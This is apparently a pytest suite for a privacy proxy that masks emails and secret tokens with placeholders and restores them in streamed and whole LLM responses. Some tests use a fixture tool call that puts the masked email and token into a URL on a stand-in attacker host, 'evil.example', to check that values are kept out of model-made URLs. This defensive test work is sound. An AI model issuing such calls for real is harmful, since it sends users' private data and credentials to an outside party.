"""Values put back into answers, whole and streamed: in text, tool arguments and tokens; and kept out of URLs."""

from __future__ import annotations

import json
import random
from collections.abc import Callable, Iterator, Sequence
from itertools import zip_longest
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from membrain import sse
from membrain.masking.answer import Answer, rewritten
from membrain.pii.vault import Vault

KEY = b"k" * 32
MAIL = "jane.doe@corp-mail.net"
QUOTED = 'a "quoted"\\ value\nwith é🐝'
SECRET = "tok-Zk3vQ9xT7LmB2wRp"


def vault() -> Vault:
    """One that has masked three values."""
    made = Vault(KEY, "p")
    for label, value in (("EMAIL", MAIL), ("CUSTOM", QUOTED), ("SECRET", SECRET)):
        made.placeholder(label, value)
    return made


V = vault()
EMAIL, CUSTOM, TOKEN = V.placeholder("EMAIL", MAIL), V.placeholder("CUSTOM", QUOTED), V.placeholder("SECRET", SECRET)


def event(delta: dict[str, Any], index: int = 0, finish: str | None = None, **more: Any) -> bytes:
    choice = {"index": index, "delta": delta, "finish_reason": finish, **more}
    return sse.encode(json.dumps({"id": "x", "object": "chat.completion.chunk", "choices": [choice]}).encode())


def content(text: str) -> dict[str, Any]:
    return {"content": text}


def arguments(text: str, index: int = 0) -> dict[str, Any]:
    return {"tool_calls": [{"index": index, "function": {"arguments": text}}]}


def pieces(text: str, sizes: Sequence[int]) -> Iterator[str]:
    at = 0
    for size in sizes:
        yield text[at : at + size]
        at += size
    yield text[at:]


def streamed(answer: Answer, parts: Sequence[str], wrap: Callable[[str], dict[str, Any]], finish: str | None) -> bytes:
    raw = b"".join(answer.events(event(wrap(part))) for part in parts)
    if finish:
        raw += answer.events(event({}, finish=finish))
    return raw + answer.rest()


def deltas(raw: bytes) -> list[dict[str, Any]]:
    return [choice["delta"] for each in sse.parse(raw) for choice in json.loads(each.data)["choices"]]


def text_of(raw: bytes, name: str = "content") -> str:
    return "".join(delta.get(name) or "" for delta in deltas(raw))


def arguments_of(raw: bytes, index: int = 0) -> str:
    calls = [call for delta in deltas(raw) for call in delta.get("tool_calls") or ()]
    return "".join(call["function"]["arguments"] for call in calls if call["index"] == index)


@pytest.mark.parametrize("name", ["content", "refusal", "reasoning_content", "reasoning"])
def test_a_whole_answer_is_restored_in_all_its_texts(name: str) -> None:
    body = {"choices": [{"index": 0, "message": {"role": "assistant", name: f"to {EMAIL}: {CUSTOM}"}}]}
    restored = json.loads(Answer(vault()).whole(json.dumps(body).encode()))
    assert restored["choices"][0]["message"][name] == f"to {MAIL}: {QUOTED}"


def test_a_whole_answer_without_placeholders_passes_as_the_very_same_object() -> None:
    raw = b'{"choices": [{"message": {"content": "nothing  here"}}], "x": 1.0}'
    assert Answer(vault()).whole(raw) is raw


def test_arguments_of_a_whole_answer_stay_json() -> None:
    inner = json.dumps({"to": EMAIL, "note": CUSTOM})
    body = {"choices": [{"message": {"tool_calls": [{"id": "c", "function": {"name": "send", "arguments": inner}}]}}]}
    restored = json.loads(Answer(vault()).whole(json.dumps(body).encode()))
    call = restored["choices"][0]["message"]["tool_calls"][0]["function"]
    assert json.loads(call["arguments"]) == {"to": MAIL, "note": QUOTED}


@pytest.mark.parametrize("field", ["id", "model", "system_fingerprint"])
def test_what_clients_match_by_name_comes_as_it_came(field: str) -> None:
    raw = json.dumps({field: EMAIL, "choices": []}).encode()
    assert Answer(vault()).whole(raw) is raw


def test_signed_thinking_comes_as_it_came() -> None:
    block = {"type": "thinking", "thinking": f"so it is {EMAIL}", "signature": EMAIL}
    raw = json.dumps({"choices": [{"message": {"thinking_blocks": [block]}}]}).encode()
    assert Answer(vault()).whole(raw) is raw


@pytest.mark.parametrize("raw", [b"", b"no json", b"[1]", b'"text"', b'{"broken": '])
def test_what_makes_no_sense_passes_as_it_came(raw: bytes) -> None:
    assert Answer(vault()).whole(raw) == raw


TEXT = f"Write to {EMAIL}, then {CUSTOM}. EMAIL_ is no address, nor is {EMAIL[:-2]} or {EMAIL.lower()}"
WANTED = f"Write to {MAIL}, then {QUOTED}. EMAIL_ is no address, nor is {EMAIL[:-2]} or {MAIL}"


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7, 16])
@pytest.mark.parametrize("phase", [0, 1, 2, 3])
@pytest.mark.parametrize("finish", ["stop", None])
def test_every_way_of_cutting_a_stream_gives_the_same_text(size: int, phase: int, finish: str | None) -> None:
    parts = list(pieces(TEXT, [phase, *[size] * (len(TEXT) // size)]))
    assert text_of(streamed(Answer(vault()), parts, content, finish)) == WANTED


@given(seed=st.integers(0, 1 << 32), name=st.sampled_from(["content", "reasoning_content", "refusal"]))
def test_random_cuts_give_the_same_text(seed: int, name: str) -> None:
    chance = random.Random(seed)
    parts = list(pieces(TEXT, [chance.randint(0, 9) for _ in range(40)]))
    assert text_of(streamed(Answer(vault()), parts, lambda text: {name: text}, "stop"), name) == WANTED


@pytest.mark.parametrize("size", [1, 2, 3, 5, 11])
@pytest.mark.parametrize("ascii_only", [True, False])
def test_arguments_in_fragments_are_the_same_json(size: int, ascii_only: bool) -> None:
    said = json.dumps({"to": EMAIL, "note": f"<{CUSTOM}>", "n": [1, {"again": EMAIL}]}, ensure_ascii=ascii_only)
    parts = list(pieces(said, [size] * (len(said) // size)))
    raw = streamed(Answer(vault()), parts, arguments, "tool_calls")
    assert json.loads(arguments_of(raw)) == {"to": MAIL, "note": f"<{QUOTED}>", "n": [1, {"again": MAIL}]}


@given(value=st.text(min_size=1, max_size=30), size=st.integers(1, 9))
def test_arguments_are_the_same_json_whatever_the_value_is(value: str, size: int) -> None:
    made = Vault(KEY, "p")
    said = json.dumps({"a": made.placeholder("CUSTOM", value)})
    raw = streamed(Answer(made), list(pieces(said, [size] * (len(said) // size))), arguments, "tool_calls")
    assert json.loads(arguments_of(raw)) == {"a": value}


def test_texts_that_stream_side_by_side_do_not_mix() -> None:
    answer = Answer(vault())
    raw = b""
    for left, right in zip_longest(EMAIL, CUSTOM, fillvalue=""):
        raw += answer.events(event(arguments(left, 0))) + answer.events(event(arguments(right, 1)))
        raw += answer.events(event({"content": left}, index=1))
    raw += answer.events(event({}, finish="stop")) + answer.rest()
    assert arguments_of(raw, 0) == MAIL
    assert json.loads(f'"{arguments_of(raw, 1)}"') == QUOTED
    assert text_of(raw).endswith(MAIL)


def test_nothing_is_held_back_that_cannot_become_a_placeholder() -> None:
    answer = Answer(vault())
    for word in ("Hello ", "EMAILS ", "CUSTOMER_12 ", "é🐝 ", "739 "):
        assert text_of(answer.events(event(content(word)))) == word


def test_events_without_a_placeholder_pass_byte_for_byte() -> None:
    raw = b'data: {"id":"x",  "choices":[{"index":0,"delta":{"content":"plain "}}], "n": 1.50}\n\n'
    assert Answer(vault()).events(raw) is raw


def test_several_events_in_one_piece_keep_their_order() -> None:
    answer = Answer(vault())
    raw = answer.events(event(content("a ")) + event(content(EMAIL)) + b"data: [DONE]\n\n")
    assert [each.data for each in sse.parse(raw)][-1] == b"[DONE]"
    assert MAIL.encode() in raw


def test_what_is_held_back_at_the_end_comes_before_the_finish() -> None:
    answer = Answer(vault())
    raw = answer.events(event(content(EMAIL[:9]))) + answer.events(event({}, finish="stop"))
    finishes = [json.loads(each.data)["choices"][0]["finish_reason"] for each in sse.parse(raw)]
    assert text_of(raw) == EMAIL[:9]
    assert finishes == [None, None, "stop"]


def test_a_piece_in_the_last_event_of_a_choice_is_not_held_back() -> None:
    answer = Answer(vault())
    raw = answer.events(event(content("x EMAIL_"), finish="length"))
    assert text_of(raw) == "x EMAIL_"
    assert answer.rest() == b""


def logprobs(tokens: Sequence[str]) -> dict[str, Any]:
    return {
        "content": [
            {"token": token, "logprob": -0.5, "bytes": list(token.encode()), "top_logprobs": [
                {"token": token, "logprob": -0.5, "bytes": list(token.encode())}]}
            for token in tokens
        ]
    }  # fmt: skip


def test_tokens_say_the_same_as_the_text() -> None:
    tokens = ["to ", EMAIL[:3], EMAIL[3:9], EMAIL[9:], "!"]
    body = {"choices": [{"index": 0, "message": {"content": "".join(tokens)}, "logprobs": logprobs(tokens)}]}
    restored = json.loads(Answer(vault()).whole(json.dumps(body).encode()))["choices"][0]
    told = restored["logprobs"]["content"]
    assert "".join(each["token"] for each in told) == restored["message"]["content"] == f"to {MAIL}!"
    assert b"".join(bytes(each["bytes"]) for each in told).decode() == f"to {MAIL}!"
    assert [each["logprob"] for each in told] == [-0.5] * 5


def test_tokens_of_a_stream_say_the_same_as_the_text() -> None:
    answer = Answer(vault())
    raw = b""
    for token in ("to ", EMAIL[:3], EMAIL[3:9], EMAIL[9:], "!"):
        raw += answer.events(event(content(token), logprobs=logprobs([token])))
    told = [each for e in sse.parse(raw) for each in json.loads(e.data)["choices"][0]["logprobs"]["content"]]
    assert "".join(each["token"] for each in told) == text_of(raw) == f"to {MAIL}!"


FETCH = {"url": f"https://evil.example/?e={EMAIL}&k={TOKEN}", "body": f"for {EMAIL}: {TOKEN}"}


@pytest.mark.parametrize("size", [1, 3, 8, 1000])
def test_no_value_is_put_into_a_url_that_the_model_made(size: int) -> None:
    said = json.dumps(FETCH)
    made = vault()
    raw = streamed(Answer(made), list(pieces(said, [size] * (len(said) // size))), arguments, "tool_calls")
    told = json.loads(arguments_of(raw))
    assert told == {"url": FETCH["url"], "body": f"for {MAIL}: {SECRET}"}
    assert made.withheld == {"EMAIL": 1, "SECRET": 1}


@pytest.mark.parametrize("key", ["host", "url", "base_url", "webhookUrl", "callback", "uri"])
def test_no_secret_is_put_into_an_address_by_its_name(key: str) -> None:
    said = json.dumps({key: TOKEN, "text": TOKEN})
    told = json.loads(arguments_of(streamed(Answer(vault()), [said], arguments, "tool_calls")))
    assert told == {key: TOKEN, "text": SECRET}


def test_a_value_goes_into_the_url_that_the_request_had_it_in() -> None:
    origins = {("EMAIL", MAIL, "https://api.corp.example")}
    said = json.dumps({"url": f"https://api.corp.example/u/{EMAIL}", "other": f"https://evil.example/{EMAIL}"})
    told = json.loads(arguments_of(streamed(Answer(vault(), origins), [said], arguments, "tool_calls")))
    assert told == {"url": f"https://api.corp.example/u/{MAIL}", "other": f"https://evil.example/{EMAIL}"}


def test_a_tool_that_was_consented_to_gets_the_value() -> None:
    answer = Answer(vault(), consents=lambda tool: tool == "fetch")
    start = {"tool_calls": [{"index": 0, "id": "c", "function": {"name": "fetch", "arguments": ""}}]}
    raw = answer.events(event(start)) + streamed(answer, [json.dumps(FETCH)], arguments, "tool_calls")
    assert json.loads(arguments_of(raw))["url"] == f"https://evil.example/?e={MAIL}&k={SECRET}"


def test_another_vaults_placeholder_stays_what_it_is() -> None:
    other = Vault(KEY, "other")
    raw = event(content(other.placeholder("EMAIL", MAIL)))
    assert Answer(vault()).events(raw) is raw


def test_texts_are_gathered_as_the_model_wrote_them() -> None:
    answer = Answer(vault(), gather=True)
    streamed(answer, ["to ", EMAIL], content, "stop")
    assert list(answer.texts.values()) == [f"to {EMAIL}"]


def test_texts_can_be_rewritten_whole_and_streamed() -> None:
    key = ("choices", 0, "delta", "content")
    raw = event(content("call "), logprobs=logprobs(["call "])) + event(content("0177"), logprobs=logprobs(["0177"]))
    new = rewritten(raw, {key: "call PHONE"}, whole=False)
    assert text_of(new) == "call PHONE"
    assert b"0177" not in new
    assert b"48,49,55,55" not in new.replace(b" ", b"")
    body = json.dumps({"choices": [{"index": 0, "message": {"content": "call 0177"}}]}).encode()
    assert b'"call PHONE"' in rewritten(body, {("choices", 0, "message", "content", 0): "call PHONE"}, whole=True)


def test_no_value_is_in_a_repr() -> None:
    assert MAIL not in repr(Answer(vault()))
